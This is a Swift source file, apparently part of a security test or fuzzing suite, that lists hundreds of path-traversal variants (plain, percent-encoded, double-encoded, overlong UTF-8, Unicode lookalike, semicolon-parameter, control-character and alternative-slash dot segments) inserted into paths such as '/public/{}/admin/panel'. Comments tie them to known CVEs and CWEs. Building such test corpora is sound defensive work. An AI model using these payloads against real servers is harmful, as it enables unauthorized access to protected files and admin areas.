extension PathTrickFamily {
    /// `/public/../admin/panel`, the dots spelled in every way that some server has read as dots.
    static let dotSegments = [
        PathTrickFamily("dot segments, plain and encoded", in: everywhere, plainDots),
        PathTrickFamily("dot segments, encoded twice and more", in: [public_], twiceEncodedDots),
        PathTrickFamily("dot segments, overlong and foreign UTF-8", in: [public_], foreignDots),
        PathTrickFamily("dot segments with path parameters", in: [public_, "/files/{}/private/x"], parameterDots),
        PathTrickFamily("dot segments beside blanks and control characters", in: [public_], controlDots),
        PathTrickFamily("dot segments beside slashes that are none", in: [public_], slashedDots),
    ]

    private static let public_ = "/public/{}/admin/panel"
    private static let everywhere = [
        public_, "/files/{}/admin/panel", "/files/x/{}/private/x", "/admin/x/{}/panel", "/{}/admin/panel",
        "/admin/users/{}/panel", "/public/x/{}/{}/admin/panel",
    ]

    // RFC 3986 §3.3, §5.2.4; "....//" survives a filter that takes "../" out once (CWE-34).
    private static let plainDots = [
        "..", "%2e%2e", "%2E%2E", "%2e.", ".%2e", "%2E.", ".%2E", "%2e%2E", ".", "%2e", "%2E", "...", "....",
        "....//..",
    ]

    // CVE-2001-0333 (IIS, superfluous decode); CVE-2021-41773 and CVE-2021-42013 (Apache 2.4.49, 2.4.50).
    private static let twiceEncodedDots = [
        "%252e%252e", "%252E%252E", "%252e.", ".%252e", "%252e", "%25252e%25252e", "%2525252e%2525252e",
        "%%32%65%%32%65", "%%32e", ".%%32%65", "%25%32%65%25%32%65", "%25%32%65.", "%2%65%2%65", "%32%65%32%65",
        "%u002e%u002e", "%u002e.", "%uff0e%uff0e", "%u2024%u2024", "%U002e%U002e", "%x2e%x2e", "0x2e0x2e", "\\x2e\\x2e",
        "&#46;&#46;", "&period;&period;", "=2E=2E", "+AC4-+AC4-", "\\u002e\\u002e", "\\056\\056",
    ]

    // CVE-2000-0884 (IIS, Unicode), CVE-2008-2938 (Tomcat, %c0%ae); lookalikes that NFKC folds to dots.
    private static let foreignDots = [
        "%c0%ae%c0%ae", "%C0%AE%C0%AE", "%c0%ae.", ".%c0%ae", "%c0%2e%c0%2e", "%c0%6e%c0%6e", "%e0%80%ae%e0%80%ae",
        "%e0%40%ae%e0%40%ae", "%f0%80%80%ae%f0%80%80%ae", "%f8%80%80%80%ae%f8%80%80%80%ae",
        "%fc%80%80%80%80%ae%fc%80%80%80%80%ae", "%fe%80%80%80%80%80%ae", "%c0%5e%c0%5e", "%25c0%25ae%25c0%25ae",
        "%ef%bc%8e%ef%bc%8e", "%ef%bc%8e.", ".%ef%bc%8e", "%ef%bc%8e", "%e2%80%a4%e2%80%a4", "%e2%80%a5", "%e2%80%a6",
        "%ef%b8%b0", "%ef%b8%99", "%ef%b9%92%ef%b9%92", "%e3%80%82%e3%80%82", "%ef%bd%a1%ef%bd%a1", "%d9%a0%d9%a0",
        "%f0%9d%9f%8e", "%c2%b7%c2%b7", "%25ef%25bc%258e%25ef%25bc%258e", "«C0AE»«C0AE»", "«E080AE»«E080AE»",
        "\u{FF0E}\u{FF0E}", "\u{2025}", "«AE»«AE»", "%ae%ae", ".%cc%80.", "..%cc%80", "%ff%fe.%00.%00",
    ]

    // Orange Tsai, "Breaking Parser Logic", Black Hat 2018: "..;/" (Tomcat behind another server); CVE-2018-1271.
    private static let parameterDots = [
        "..;", "..;x", "..;x=1", "..;/..;", "..;jsessionid=1", ".;.", ";..", ";x/..", ";/..", "..;%2f..", "%2e%2e;",
        "%2e%2e%3b", "..%3b", "..%3B", "..%253b", ".;", ";", ";x=/../", "..,x=1", "..:x", "..&x", "..%26", "..=", "..$",
        "..!", "..'", "..*", "..@", "..~", "..|", "..+", "..%2b",
    ]

    // CWE-158, CVE-2018-7490; Windows takes trailing blanks and dots off; JavaScript's URL takes TAB, CR and LF out (WHATWG).
    private static let controlDots = [
        "..%00", "%00..", ".%00.", "..%00x", "..%01", "..%08", "..%09", ".%09.", "%09..", "..%0a", ".%0a.", "..%0b",
        "..%0c",
        "..%0d", ".%0d.", "..%0d%0a", "..%1f", "..%20", "%20..", ".%20.", "%20%2e%2e", "..%7f", "..%80", "..%85",
        "..%c2%85", "..%a0", "..%c2%a0", "..%ad", "..%c2%ad", ".%c2%ad.", "..%e2%80%8b", ".%e2%80%8b.", "..%e2%80%8d",
        "..%e2%80%ae", "..%e2%81%a0", "..%ef%bb%bf", "%ef%bb%bf..", "..%e3%80%80", "..%fe%0f", "..%ff", "..%2500",
        "..%2509", "..%250a", "..«00»", ".«00».", "..«01»", "..«09»", ".«09».", "..«0B»", "..«0C»", "..«7F»", "..«80»",
        "..«A0»", "..«C2A0»", ".. ", " ..", ". .", "..«0D»", "..«0A»", ".«0A».", "..«0D0A»", "..#", "#..", "..%23",
        "..?",
        "..%3f", "?..", "%3f..",
    ]

    // CWE-22 with "\"; CVE-2000-0884: %c0%af and %c1%9c; CVE-2019-19781 (Citrix).
    private static let slashedDots = [
        "..\\..", "..\\", "\\..", "..\\/", "..%5c", "%5c..", "..%5C..", "%2e%2e%5c", "..%255c", "..%255c..",
        "..%25255c..",
        "..%2f", "%2f..", "..%2F..", "%2e%2e%2f", "%2e%2e%2f%2e%2e", "..%252f", "..%252f..", "..%25252f..",
        "%252e%252e%252f",
        "..%c0%af..", "..%c0%af", "%c0%ae%c0%ae%c0%af", "..%e0%80%af..", "..%f0%80%80%af..", "..%c1%9c..", "..%c0%9v..",
        "..%c0%qf..", "..%c1%8s..", "..%c1%pc..", "..%bg%qf..", "..%ef%bc%8f..", "..%ef%bc%bc..", "..%e2%88%95..",
        "..%e2%81%84..", "..%e2%a7%b8..", "..%u2215..", "..%u2216..", "..%uEFC8..", "..%uF025..", "..%u002f..", "..//",
        "..//..", "//..", "/..//", "..//./", ".//..", "../.", "./..", ".././", "..%2f%2f..", "..%%32%66..",
        "..%%35%63..",
        "..%5c..%5c", "..%2f\\..", "..¥..", "..%c2%a5..", "..%e2%82%a9..",
    ]
}
